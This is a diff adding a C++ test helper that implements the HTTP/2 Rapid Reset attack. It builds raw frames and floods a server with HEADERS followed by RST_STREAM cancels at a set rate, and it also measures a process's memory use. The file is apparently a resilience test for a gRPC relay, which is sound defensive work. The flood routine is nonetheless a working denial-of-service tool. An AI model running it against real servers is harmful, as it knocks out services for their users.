@@ -1,0 +1,195 @@
+#include "tests/testutil/rapid_reset.h"
+
+#include <arpa/inet.h>
+#include <netinet/in.h>
+#include <netinet/tcp.h>
+#include <openssl/ssl.h>
+#include <signal.h>
+#include <sys/socket.h>
+#include <unistd.h>
+
+#include <atomic>
+#include <fstream>
+#include <thread>
+
+#include "absl/strings/ascii.h"
+#include "absl/strings/numbers.h"
+#include "absl/strings/str_cat.h"
+#include "absl/strings/str_split.h"
+#include "absl/time/clock.h"
+
+namespace sigrelay::testing {
+namespace {
+
+void Frame(std::string* out, uint8_t type, uint8_t flags, uint32_t stream,
+           const std::string& payload) {
+  const uint32_t n = static_cast<uint32_t>(payload.size());
+  out->push_back(static_cast<char>(n >> 16));
+  out->push_back(static_cast<char>(n >> 8));
+  out->push_back(static_cast<char>(n));
+  out->push_back(static_cast<char>(type));
+  out->push_back(static_cast<char>(flags));
+  for (int shift : {24, 16, 8, 0}) out->push_back(static_cast<char>((stream >> shift) & 0xff));
+  out->append(payload);
+}
+
+// HPACK "literal header field without indexing, new name" (RFC 7541 6.2.2);
+// every name and value here is shorter than 127 bytes.
+void Literal(std::string* block, const std::string& name, const std::string& value) {
+  block->push_back(0);
+  block->push_back(static_cast<char>(name.size()));
+  block->append(name);
+  block->push_back(static_cast<char>(value.size()));
+  block->append(value);
+}
+
+// A connected socket from `from` to `address`, or -1.
+int Connect(const std::string& address, const std::string& from) {
+  std::vector<std::string> hp = absl::StrSplit(address, ':');
+  int port = 0;
+  if (hp.size() != 2 || !absl::SimpleAtoi(hp[1], &port)) return -1;
+  int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
+  sockaddr_in src{};
+  src.sin_family = AF_INET;
+  inet_pton(AF_INET, from.c_str(), &src.sin_addr);
+  sockaddr_in dst{};
+  dst.sin_family = AF_INET;
+  dst.sin_port = htons(static_cast<uint16_t>(port));
+  inet_pton(AF_INET, hp[0].c_str(), &dst.sin_addr);
+  int one = 1;
+  setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof one);
+  if (bind(fd, reinterpret_cast<sockaddr*>(&src), sizeof src) != 0 ||
+      connect(fd, reinterpret_cast<sockaddr*>(&dst), sizeof dst) != 0) {
+    close(fd);
+    return -1;
+  }
+  return fd;
+}
+
+// One connection: plaintext or TLS writes and reads.
+class Link {
+ public:
+  Link(int fd, SSL_CTX* ctx) : fd_(fd) {
+    if (ctx == nullptr) return;
+    ssl_ = SSL_new(ctx);
+    SSL_set_fd(ssl_, fd);
+    if (SSL_connect(ssl_) != 1) ok_ = false;
+  }
+  ~Link() {
+    if (ssl_) SSL_free(ssl_);
+    close(fd_);
+  }
+  bool ok() const { return ok_; }
+  bool Write(const std::string& bytes) {
+    size_t done = 0;
+    while (done < bytes.size()) {
+      long n = ssl_ ? SSL_write(ssl_, bytes.data() + done, static_cast<int>(bytes.size() - done))
+                    : write(fd_, bytes.data() + done, bytes.size() - done);
+      if (n <= 0) return false;
+      done += static_cast<size_t>(n);
+    }
+    return true;
+  }
+  // Reads and drops until the connection ends (SSL objects are not safe
+  // for a concurrent read and write, so TLS reads happen between writes).
+  void DrainPlain() {
+    char buf[16384];
+    while (read(fd_, buf, sizeof buf) > 0) {
+    }
+  }
+  void DrainTls() {
+    char buf[16384];
+    while (SSL_pending(ssl_) > 0 || HasBytes()) {
+      if (SSL_read(ssl_, buf, sizeof buf) <= 0) return;
+    }
+  }
+  bool tls() const { return ssl_ != nullptr; }
+  void Shutdown() { shutdown(fd_, SHUT_RDWR); }
+
+ private:
+  bool HasBytes() {
+    char c;
+    return recv(fd_, &c, 1, MSG_PEEK | MSG_DONTWAIT) == 1;
+  }
+  int fd_;
+  SSL* ssl_ = nullptr;
+  bool ok_ = true;
+};
+
+}  // namespace
+
+RapidResetResult RapidReset(const std::string& address, const std::string& from, bool tls,
+                            absl::Duration duration, uint64_t max_streams_per_second,
+                            const std::string& path) {
+  RapidResetResult result;
+  signal(SIGPIPE, SIG_IGN);  // a server closing the connection is an answer, not a crash
+  SSL_CTX* ctx = nullptr;
+  if (tls) {
+    ctx = SSL_CTX_new(TLS_client_method());
+    static const unsigned char kAlpn[] = {2, 'h', '2'};
+    SSL_CTX_set_alpn_protos(ctx, kAlpn, sizeof kAlpn);
+  }
+  std::string block;
+  Literal(&block, ":method", "POST");
+  Literal(&block, ":scheme", tls ? "https" : "http");
+  Literal(&block, ":path", path);
+  Literal(&block, ":authority", address);
+  Literal(&block, "content-type", "application/grpc");
+  Literal(&block, "te", "trailers");
+  const std::string cancel("\0\0\0\x08", 4);  // RST_STREAM error code CANCEL
+  const absl::Time end = absl::Now() + duration;
+  const absl::Time start = absl::Now();
+  while (absl::Now() < end) {
+    int fd = Connect(address, from);
+    if (fd < 0) {
+      if (result.connections == 0) result.error = "cannot connect to " + address;
+      break;
+    }
+    Link link(fd, ctx);
+    if (!link.ok()) {
+      result.error = "TLS handshake with " + address + " failed";
+      break;
+    }
+    ++result.connections;
+    std::thread drain;
+    if (!link.tls()) drain = std::thread([&link] { link.DrainPlain(); });
+    std::string hello = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
+    Frame(&hello, 4, 0, 0, "");  // SETTINGS
+    Frame(&hello, 4, 1, 0, "");  // ACK of the server's
+    bool open = link.Write(hello);
+    uint32_t stream = 1;
+    while (open && absl::Now() < end && stream < (1u << 31) - 200) {
+      std::string batch;
+      for (int i = 0; i < 100; ++i, stream += 2) {
+        Frame(&batch, 1, 0x4, stream, block);  // HEADERS, END_HEADERS
+        Frame(&batch, 3, 0, stream, cancel);   // RST_STREAM
+      }
+      open = link.Write(batch);
+      if (open) result.streams += 100;
+      if (link.tls()) link.DrainTls();
+      // Paced to the rate asked for.
+      const absl::Time due =
+          start + absl::Seconds(static_cast<double>(result.streams) / max_streams_per_second);
+      if (due > absl::Now()) absl::SleepFor(due - absl::Now());
+    }
+    link.Shutdown();
+    if (drain.joinable()) drain.join();
+  }
+  if (ctx) SSL_CTX_free(ctx);
+  return result;
+}
+
+uint64_t ResidentBytes(int pid) {
+  std::ifstream status(absl::StrCat("/proc/", pid, "/status"));
+  std::string line;
+  while (std::getline(status, line)) {
+    uint64_t kb = 0;
+    if (line.rfind("VmRSS:", 0) == 0 &&
+        absl::SimpleAtoi(absl::StripAsciiWhitespace(line.substr(6, line.size() - 6 - 3)), &kb)) {
+      return kb * 1024;
+    }
+  }
+  return 0;
+}
+
+}  // namespace sigrelay::testing
